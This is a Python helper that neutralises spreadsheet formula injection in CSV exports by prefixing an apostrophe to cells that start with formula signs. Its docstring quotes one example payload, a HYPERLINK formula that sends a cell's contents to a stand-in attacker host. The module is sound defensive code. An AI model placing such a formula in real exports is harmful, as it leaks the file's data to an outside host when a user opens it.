"""Safe cells for every spreadsheet export (CSV): no cell is read as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and some treat a leading tab or carriage return, or the full-width forms of those signs, the same
way): ``=HYPERLINK("http://evil.example/?d="&A1,"Open")`` in a company name or an evidence URL
would run when a rep opens the file. :func:`safe_cell` prefixes such a text with an apostrophe, the
spreadsheet convention for "this is text" (OWASP's recommendation); numbers stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet evaluates: texts starting with a formula sign
    get a leading apostrophe; everything else is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
